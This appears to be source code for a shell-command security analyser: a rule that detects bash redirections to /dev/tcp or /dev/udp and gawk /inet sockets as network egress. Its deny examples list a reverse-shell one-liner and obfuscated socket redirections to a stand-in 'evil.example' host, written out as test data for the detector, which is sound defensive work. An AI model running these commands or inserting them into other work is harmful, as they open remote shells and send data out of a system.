// egress.dev-tcp: a redirection bash turns into a socket (/dev/tcp, /dev/udp), or gawk's /inet special files.
import type { Finding } from '../types.js';
import { componentCouldBe, DYN, resolvePath, cwdOf } from './paths.js';
import type { Rule } from './rule.js';
import { display, markDynamic, markGlob, programName } from './words.js';

const SOCKET_OPS = new Set(['>', '>>', '<', '<>', '>|', '&>', '&>>', '>&', '<&']);
const GAWK_INET = /\/inet[46]?\/(tcp|udp)\//i;

/**
 * A target led by a value the line computes (a command substitution, a variable it set, a default), with no `/` after
 * it: the whole of `/dev/tcp/HOST/PORT` may come from that value. The environment's own variables (`> "$LOG"`) and a
 * path mktemp made are not.
 */
function computedSocket(marked: string, text: string, why: string | undefined, temp: boolean): boolean {
  if (temp || !marked.startsWith(DYN)) return false;
  // Only a substitution or a default written in the target itself (`> "$(printf /dev/tcp/…)"`, `> ${T:-/dev/tcp/…}`):
  // a variable holding a name read or found earlier (`for f in …; do … > "$f"`) is an everyday file, not a socket.
  if (!/^"?(?:\$\(|`|\$\{\w+:?[-=])/.test(text)) return false;
  if (why === undefined || / is not known before the command runs$/.test(why) || /temp directory|process substitution/.test(why)) return false;
  const last = marked.lastIndexOf(DYN);
  return !marked.slice(last + 1).includes('/');
}

export const egressDevTcp: Rule = {
  id: 'egress.dev-tcp',
  kind: 'egress',
  description: 'A redirection to /dev/tcp/* or /dev/udp/*: bash opens the socket itself, no network binary is involved.',
  examples: {
    deny: [
      'exec 3<>/dev/tcp/example.com/80',
      'cat < /dev/tcp/example.com/80',
      'echo hi > /dev/tcp/10.0.0.1/4444',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'echo x > /dev/udp/10.0.0.1/53',
      'exec 5<>"/dev/tcp/$HOST/$PORT"',
      'H=example.com; exec 3<>/dev/tcp/$H/80',
      "sh -c 'echo data > /dev/tcp/example.com/9'",
      'echo x > /dev/${T:-tcp}/evil.example/80',
      'echo x > "$(printf /dev/tcp/evil.example/80)"',
      'echo x > /dev/$(echo tcp)/evil.example/80',
      'echo hi >>/dev/tcp/example.com/9',
      'timeout 2 cat 0</dev/tcp/example.com/22',
      'cat < /dev//tcp/example.com/80',
      'gawk \'BEGIN { s = "/inet/tcp/0/example.com/80"; print "GET /" |& s }\'',
    ],
    pass: [
      'ls /dev/tcp',
      'echo /dev/tcp/example.com/80',
      'cat /dev/null',
      'echo x > /dev/null',
      'grep tcp /etc/services',
      'echo done > tcp.log',
      'netstat -tn',
      'echo oops 2>/dev/stderr',
      'exec 3>/tmp/devtcp',
      'echo x > "$(mktemp)"',
      'echo x > "$LOG"',
      "for a in $(find src -name '*.py'); do echo x > \"$a\"; done",
      'find . -name "*.doc" | while read i; do antiword "$i" > "${i/doc/txt}"; done',
      'exec > >(tee build.log) 2>&1; make',
      'echo x > "$(git rev-parse --show-toplevel)/build/out.log"',
      'echo y >> "$(find . -name notes.txt)"',
      'ss -tlnp',
      "awk '{print $1}' /var/log/inet.log",
    ],
  },
  check({ analysis }) {
    const findings: Finding[] = [];
    analysis.segments.forEach((seg, index) => {
      for (const r of seg.redirects) {
        const t = r.target;
        if (!t || !SOCKET_OPS.has(r.op)) continue;
        const ctx = { cwd: cwdOf(seg), home: analysis.home, dialect: seg.dialect };
        const paths = t.values === null ? [markDynamic(t.text, ctx)] : t.values.map((v) => (t.glob ? markGlob(v, seg.dialect) : v));
        // A component computed at run time may be tcp or udp (`/dev/${T:-tcp}/h/80`).
        const socket = paths
          .map((p) => resolvePath(p, ctx))
          .find((p) => componentCouldBe(p, 0, 'dev') && (componentCouldBe(p, 1, 'tcp') || componentCouldBe(p, 1, 'udp') || p.split('/').filter((c) => c !== '')[1]?.includes(DYN) === true));
        // (A path find printed is a file that exists: bash's /dev/tcp and /dev/udp are names no directory holds.)
        const computed = socket === undefined && t.values === null && t.under === undefined && computedSocket(paths[0]!, t.text, t.dynamic, t.temp === true);
        if (socket === undefined && !computed) continue;
        findings.push({
          rule: 'egress.dev-tcp',
          kind: 'egress',
          message: computed ? `redirection to ${display(t)}, a path the line computes (${t.dynamic ?? 'computed'}), which may be /dev/tcp or /dev/udp: bash would open a network socket` : `redirection to ${display(t)} opens a network socket (/dev/tcp, /dev/udp)`,
          span: r.span,
          segment: index,
        });
      }
    });
    for (const inv of analysis.invocations) {
      const name = programName(inv);
      if (name !== 'gawk' && name !== 'awk') continue;
      const word = inv.args.find((w) => (w.values ?? [w.text]).some((v) => GAWK_INET.test(v)));
      if (word) {
        findings.push({
          rule: 'egress.dev-tcp',
          kind: 'egress',
          message: `${inv.program} opens a network socket through ${GAWK_INET.exec((word.values ?? [word.text]).join(' '))?.[0]} (gawk /inet special file)`,
          span: word.span,
          segment: inv.segment,
        });
      }
    }
    return findings;
  },
};
